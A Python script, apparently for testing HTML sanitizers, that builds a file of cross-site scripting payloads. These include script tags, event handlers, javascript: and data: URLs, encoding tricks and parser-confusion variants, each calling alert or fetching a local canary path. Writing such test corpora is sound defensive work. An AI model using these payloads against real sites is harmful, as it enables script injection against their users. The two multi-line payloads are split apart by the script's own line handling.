#!/usr/bin/env python3
"""Builds payloads.txt: hand-picked XSS payloads plus systematic variants (tags x handlers, URL schemes x encodings).

Every payload tries to call alert/confirm/prompt/print or to reach the network (fetch to /canary), so the browser
test can detect it. One payload per line; literal newlines are written as the two characters \\n. Run from this directory.
"""

HAND = r'''
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<script src=/canary/s.js></script>
<script>fetch('/canary/fetch')</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script>
<script>/*</script><script>*/alert(1)</script>
<<script>alert(1);//<</script>
<script\x20type="text/javascript">alert(1)</script>
<img src=x onerror=alert(1)>
<img src=x onerror="fetch('/canary/img')">
<IMG SRC=x ONERROR=alert(1)>
<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">
<img src=x onerror=alert`1`>
<img/src=x/onerror=alert(1)>
<img src=x:alert(alt) onerror=eval(src) alt=1>
<img src="javascript:alert(1)">
<img src=`x` onerror=confirm(1)>
<img """><script>alert(1)</script>">
<img src=x onerror=prompt(1)>
<img src=x onerror=print()>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href=data:,alert(1) />
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=alert(1)>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)' /></svg>#x" />
<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math><mi xlink:href="javascript:alert(1)">click</mi></math>
<math href="javascript:alert(1)">CLICKME</math>
<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe src="data:text/html,<script>parent.alert(1)</script>"></iframe>
<iframe onload=alert(1)></iframe>
<object data="javascript:alert(1)"></object>
<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuYWxlcnQoMSk8L3NjcmlwdD4="></object>
<embed src="javascript:alert(1)">
<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="&#x6A;avascript:alert(1)">x</a>
<a href="java&#x09;script:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="#" onclick="alert(1)">x</a>
<a href="http://x" onmouseover=alert(1)>x</a>
<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<input autofocus onfocus=alert(1)>
<input type=image src=x onerror=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)></textarea>
<keygen autofocus onfocus=alert(1)>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<div onmouseover="alert(1)">hover</div>
<div style="background:url(javascript:alert(1))">x</div>
<div style="width:expression(alert(1))">x</div>
<div style="background-image:url('/canary/css')">x</div>
<style>@import '/canary/import.css';</style>
<style>body{background:url(/canary/bg)}</style>
<link rel=stylesheet href=/canary/link.css>
<link rel=import href=/canary/import.html>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0;url=/canary/meta">
<base href="javascript:alert(1)//">
<base href="/canary/base/"><script src=x.js></script>
<form action="javascript:alert(1)"><button>x</button></form>
<form><button formaction=javascript:alert(1)>x</button></form>
<isindex action=javascript:alert(1) type=image>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>
<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>
<plaintext><img src=x onerror=alert(1)>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<style><img title="</style><img src=x onerror=alert(1)>"></style>
<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>
<template><img src=x onerror=alert(1)></template><div id=t></div>
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[><img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><img src=x onerror=alert(1)>
<!-- --!><img src=x onerror=alert(1)> -->
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><p><style><g title="</style><img src=x onerror=alert(1)>">
<noscript><style></noscript><img src=x onerror=alert(1)>
<table><td><style><img src=x onerror=alert(1)></style></td></table>
<select><template><style><img src=x onerror=alert(1)></style></template></select>
<a id=x tabindex=1 onfocus=alert(1)></a>
<div id="x" onanimationstart="alert(1)" style="animation-name:x"></div>
<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;(1)>
<img src=x onerror=\u0061lert(1)>
<img src=x onerror=window['al'+'ert'](1)>
<img src=x onerror=top[/al/.source+/ert/.source](1)>
<img src=x onerror=eval(atob('YWxlcnQoMSk='))>
<img src=x onerror=import('/canary/import.js')>
<img src=x onerror=location='javascript:alert(1)'>
%3Cscript%3Ealert(1)%3C/script%3E
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
\x3cscript\x3ealert(1)\x3c/script\x3e
<scr\0ipt>alert(1)</scr\0ipt>
<script
>alert(1)</script>
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
</textarea><script>alert(1)</script>
</title><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<a href="https://example.com" target=_blank>opener</a><script>alert(1)</script>
<img src="https://example.com/x.png" onload=alert(1)>
<a href="mailto:a@b.c" onclick=alert(1)>mail</a>
<p style="x:expression(alert(1))">x</p>
<b onmouseover=alert(1)>bold</b>
<i onclick=alert(1)>italic</i>
<ul><li onclick=alert(1)>li</li></ul>
<blockquote cite="javascript:alert(1)">q</blockquote>
<q cite="javascript:alert(1)">q</q>
<img src="http://x" srcset="javascript:alert(1) 1x">
<img src="https://x.test/a.png" longdesc="javascript:alert(1)">
<a href="https://x.test/" ping="/canary/ping">x</a>
<img src=x onerror="document.write('<script>alert(1)<\/script>')">
<img src=x onerror="this.outerHTML='<svg onload=alert(1)>'">
<object type="text/x-scriptlet" data="/canary/scriptlet"></object>
<applet code="x" codebase="/canary/applet"></applet>
<frameset onload=alert(1)>
<html onmouseover=alert(1)>
<head><script>alert(1)</script></head>
<xss id=x tabindex=1 onfocus=alert(1)></xss>
<custom-element onclick=alert(1)>c</custom-element>
<portal src=/canary/portal></portal>
<img src=x:x onerror=alert(1)//
<img src=x onerror=alert(1)
<script>alert(1)//
<svg onload=alert(1)//
<a href="javas
cript:alert(1)">x</a>
<a href="&Tab;javascript:alert(1)">x</a>
<a href="javascript:alert(1)" rel="opener">x</a>
<img src="data:image/svg+xml,<svg onload=alert(1)>">
<a href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">svg</a>
<img src='x' onerror='alert(String.fromCharCode(88,83,83))'>
<iframe src="/canary/frame"></iframe>
<img src="//127.0.0.1:1/canary.png" onerror=alert(1)>
<svg><image href=x onerror=alert(1) />
<svg><feImage href="javascript:alert(1)"/></svg>
<svg><discard onbegin=alert(1)>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg><desc><img src=x onerror=alert(1)></desc></svg>
'''

TAGS = ['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'input type=image src=x', 'iframe', 'object data=x',
        'details open', 'marquee', 'div', 'span', 'p', 'a href=#', 'b', 'style', 'link rel=stylesheet href=x', 'table background=x']
HANDLERS = ['onerror', 'onload', 'onmouseover', 'onclick', 'onfocus', 'ontoggle', 'onbegin', 'onanimationstart',
            'onpointerenter', 'onstart']
SCHEMES = ['javascript:alert(1)', 'JAVASCRIPT:alert(1)', 'jav&#x09;ascript:alert(1)', 'jav&#x0A;ascript:alert(1)',
           '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)',
           '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)',
           'javascript&#58;alert(1)', ' javascript:alert(1)', '\tjavascript:alert(1)', 'java\\0script:alert(1)',
           'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
           'vbscript:alert(1)', 'livescript:alert(1)', 'javascript://%0aalert(1)', 'javascript:fetch(%27/canary/u%27)']
URL_PLACES = ['<a href="{u}">x</a>', '<img src="{u}">', '<iframe src="{u}"></iframe>', '<form action="{u}"><input type=submit></form>',
              '<a href=\'{u}\'>x</a>', '<area href="{u}">', '<button formaction="{u}">x</button>']


def main():
    payloads = [line for line in HAND.split('\n') if line.strip()]
    joined = []
    for line in HAND.strip('\n').split('\n'):
        joined.append(line)
    for tag in TAGS:
        for handler in HANDLERS[:6] if tag not in ('svg', 'div') else HANDLERS:
            payloads.append('<%s %s=alert(1)>x' % (tag, handler))
    for scheme in SCHEMES:
        for place in URL_PLACES:
            payloads.append(place.replace('{u}', scheme))
    seen, unique = set(), []
    for p in payloads:
        if p not in seen:
            seen.add(p)
            unique.append(p.replace('\\n', '\\\\n'))
    with open('payloads.txt', 'w', encoding='utf-8') as out:
        out.write('\n'.join(unique) + '\n')
    print(len(unique))


if __name__ == '__main__':
    main()
